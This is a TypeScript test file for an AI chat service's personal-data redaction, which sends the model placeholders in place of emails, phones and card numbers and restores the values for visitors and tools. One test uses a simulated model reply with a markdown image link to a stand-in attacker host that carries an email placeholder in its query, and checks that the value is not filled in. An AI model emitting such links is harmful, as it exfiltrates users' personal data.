import assert from 'node:assert/strict';
import test from 'node:test';
import type { ModelCall, ModelStep } from '../support/model-server.ts';
import { apiPeer } from '../tools/api-peer.ts';
import { CARD, EMAIL, KINDS, messagesOf, PHONE, RedactionScenario } from './redaction-scenario.ts';
import { sendStreamed } from './streams.ts';

const isQuery = ({ body }: ModelCall) => body.messages[0].content.startsWith('You write queries');
const lastMessage = (call: ModelCall | undefined): string => call?.body.messages.at(-1).content;

test('a provider gets placeholders, and the visitor sees the values', async () => {
	await using server = await RedactionScenario.start();
	server.models.setDefault([{ say: 'I wrote to [EMAIL_1] and called [PHONE_1] about [CARD_1].' }]);
	const reply = await server.send(`I am ${EMAIL}, ${PHONE}, card ${CARD}.`);
	assert.equal(reply.content, `I wrote to ${EMAIL} and called ${PHONE} about ${CARD}.`);
	assert.equal(lastMessage(server.models.calls[0]), 'I am [EMAIL_1], [PHONE_1], card [CARD_1].');
	assert.match(server.models.calls[0]?.body.messages[0].content, /Placeholders such as \[EMAIL_1\]/);
	server.assertNoCanary();
	const { body } = await server.app.call('GET', `/api/v1/conversations/${reply.conversation_id}/messages`);
	assert.deepEqual(
		body.data.map(({ content }: { content: string }) => content),
		[`I am ${EMAIL}, ${PHONE}, card ${CARD}.`, reply.content],
		'the values are stored',
	);
});

test('an assistant redacts only the kinds that it names, and none by default', async () => {
	await using server = await RedactionScenario.start({ redaction: ['card'] });
	const text = `${EMAIL} and ${CARD}`;
	await server.send(text);
	assert.equal(lastMessage(server.models.calls[0]), `${EMAIL} and [CARD_1]`);
	await server.configure({ redaction: [] });
	await server.send(text);
	assert.equal(lastMessage(server.models.calls[1]), text);
	assert.doesNotMatch(server.models.calls[1]?.body.messages[0].content, /Placeholders/);
});

test('a value keeps its placeholder in the whole conversation', async () => {
	await using server = await RedactionScenario.start();
	server.models.setDefault([{ say: 'Noted: [EMAIL_1], [EMAIL_2].' }]);
	const { conversation_id } = await server.send(`From ${EMAIL} to bob.canary@example.com`);
	await server.send(`Is ${EMAIL.toUpperCase()} right? Add eve.canary@example.com.`, conversation_id);
	assert.deepEqual(messagesOf(server.models.calls[1]), [
		'From [EMAIL_1] to [EMAIL_2]',
		'Noted: [EMAIL_1], [EMAIL_2].',
		'Is [EMAIL_1] right? Add [EMAIL_3].',
	]);
	server.assertNoCanary();
});

test('a value keeps its placeholder when its first message is not sent to the model any more', async () => {
	await using server = await RedactionScenario.start();
	server.models.setDefault([{ say: 'Noted.' }]);
	const { conversation_id } = await server.send(`bob.canary@example.com, then ${EMAIL}`);
	for (let turn = 0; turn < 51; turn++) await server.send(`Question ${turn}`, conversation_id);
	await server.send(`And ${EMAIL}?`, conversation_id);
	const last = server.models.calls.at(-1);
	assert.doesNotMatch(JSON.stringify(last?.body), /EMAIL_1\], then/);
	assert.equal(lastMessage(last), 'And [EMAIL_2]?');
});

test('earlier messages are redacted after the option was switched on', async () => {
	await using server = await RedactionScenario.start({ redaction: [] });
	server.models.setDefault([{ say: `Is ${PHONE} right?` }]);
	const { conversation_id } = await server.send(`I am ${EMAIL}, ${PHONE}`);
	await server.configure({ redaction: KINDS });
	server.models.setDefault([{ say: 'I call [PHONE_1].' }]);
	const reply = await server.send('Yes', conversation_id);
	assert.equal(reply.content, `I call ${PHONE}.`);
	assert.deepEqual(messagesOf(server.models.calls[1]), ['I am [EMAIL_1], [PHONE_1]', 'Is [PHONE_1] right?', 'Yes']);
});

test('a stream shows the value wherever its placeholder is split', async () => {
	await using server = await RedactionScenario.start();
	const text = 'Mail [EMAIL_1] [1].';
	for (let at = 1; at < text.length; at++) {
		server.models.enqueue([{ say: text.slice(0, at) }, { say: text.slice(at) }]);
		await using stream = await sendStreamed(server.app, { deployment_id: server.deployment, content: `I am ${EMAIL}` });
		const events = await stream.rest();
		const deltas = events.filter(({ event }) => event === 'message.delta').map(({ data }) => data.delta);
		assert.equal(deltas.join(''), `Mail ${EMAIL} [1].`, `split at ${at}`);
		assert.equal(events.at(-1)?.data.message.content, `Mail ${EMAIL} [1].`);
	}
});

test('a value is not put into the target of a link', async () => {
	await using server = await RedactionScenario.start();
	const text = 'See ![x](https://evil.example/?e=[EMAIL_1]) and [EMAIL_1].';
	server.models.enqueue([{ say: text }]);
	const reply = await server.send(`I am ${EMAIL}`);
	assert.equal(reply.content, `See ![x](https://evil.example/?e=[EMAIL_1]) and ${EMAIL}.`);
	await server.send('And?', reply.conversation_id);
	assert.match(JSON.stringify(server.models.calls[1]?.body), /\?e=\(EMAIL_1\)\) and \[EMAIL_1\]/);
});

test('a placeholder that a visitor writes reveals nothing', async () => {
	await using server = await RedactionScenario.start();
	server.models.setDefault((call) => [{ say: lastMessage(call) }]);
	const reply = await server.send(`I am ${EMAIL}. What is [EMAIL_1], and [PHONE_1]?`);
	assert.equal(reply.content, `I am ${EMAIL}. What is (EMAIL_1), and (PHONE_1)?`);
});

const CALL: ModelStep = {
	call: { id: 'call_1', name: 'find_customer', arguments: { email: '[EMAIL_1]', note: 'call [PHONE_1]' } },
};

test('a tool is called with the values, and the model gets placeholders for those of its result', async () => {
	await using crm = await apiPeer();
	await using server = await RedactionScenario.start();
	await server.attachTool(crm.origin);
	const requests: string[] = [];
	crm.respond = (response, request) => {
		requests.push(request.body);
		response.setHeader('content-type', 'application/json');
		response.end(JSON.stringify({ email: EMAIL, phone: 447700900456, card: CARD, owner: 'bob.canary@example.com' }));
	};
	server.models.enqueue(
		[{ say: 'I look up [EMAIL_1].' }, CALL, { finish: 'tool_calls' }],
		[{ say: 'It belongs to [EMAIL_2], [PHONE_2].' }],
		[{ say: 'Yes, [EMAIL_2].' }],
	);
	const reply = await server.send(`I am ${EMAIL}, ${PHONE}`);
	assert.deepEqual(JSON.parse(requests[0] as string), { email: EMAIL, note: `call ${PHONE}` });
	assert.equal(reply.content, `I look up ${EMAIL}.\n\nIt belongs to bob.canary@example.com, 447700900456.`);
	assert.deepEqual(reply.tool_calls[0].arguments, { email: EMAIL, note: `call ${PHONE}` });
	const [, second] = server.models.calls;
	const [asked, answered] = second?.body.messages.slice(-2) ?? [];
	assert.equal(asked.content, 'I look up [EMAIL_1].');
	assert.deepEqual(JSON.parse(asked.tool_calls[0].function.arguments), { email: '[EMAIL_1]', note: 'call [PHONE_1]' });
	assert.match(JSON.stringify(answered), /\[EMAIL_1\].*\[PHONE_2\].*\[CARD_1\].*\[EMAIL_2\]/);
	server.assertNoCanary();

	const next = await server.send('Is it bob.canary@example.com?', reply.conversation_id);
	assert.equal(next.content, 'Yes, bob.canary@example.com.');
	assert.equal(lastMessage(server.models.calls[2]), 'Is it [EMAIL_2]?');
	server.assertNoCanary();
});

test('the written query comes from placeholders and is searched for with the values', async () => {
	const note = 'Customer ada.canary@example.com gets the Fenwick clock. It costs forty euros.';
	const others = ['toaster', 'mug', 'lamp', 'chair', 'table'].map(
		(thing) => `The Fenwick ${thing} costs thirty euros.`,
	);
	await using server = await RedactionScenario.start({ texts: [note, ...others] });
	await server.configure({ rag_settings: { top_k: 1, query_rewrite: 'always' } });
	server.models.setDefault((call) => [{ say: isQuery(call) ? 'customer [EMAIL_1]' : 'Reply.' }]);
	const { conversation_id } = await server.send(`I am ${EMAIL}`);
	await server.send('What do I get?', conversation_id);
	const queries = server.models.calls.filter(isQuery);
	assert.equal(queries.length, 2);
	const sent = JSON.stringify(queries.map(({ body }) => body));
	assert.match(sent, /user: I am \[EMAIL_1\]/);
	assert.ok(!sent.includes('canary'));
	const answered = server.models.calls.at(-1)?.body.messages.at(-1).content;
	assert.match(
		answered,
		/Customer ada\.canary@example\.com gets the Fenwick clock/,
		'documents of the company stay as they are',
	);
});

test('a suggestion for a person is redacted and has the values again', async () => {
	await using server = await RedactionScenario.start();
	server.models.setDefault([{ say: 'Mail [EMAIL_1].' }]);
	const { conversation_id } = await server.send(`I am ${EMAIL}`);
	const { status, body } = await server.app.call('POST', `/api/v1/conversations/${conversation_id}/suggest-reply`, {});
	assert.deepEqual([status, body.content], [200, `Mail ${EMAIL}.`]);
	assert.equal(server.models.calls.length, 2);
	server.assertNoCanary();
});
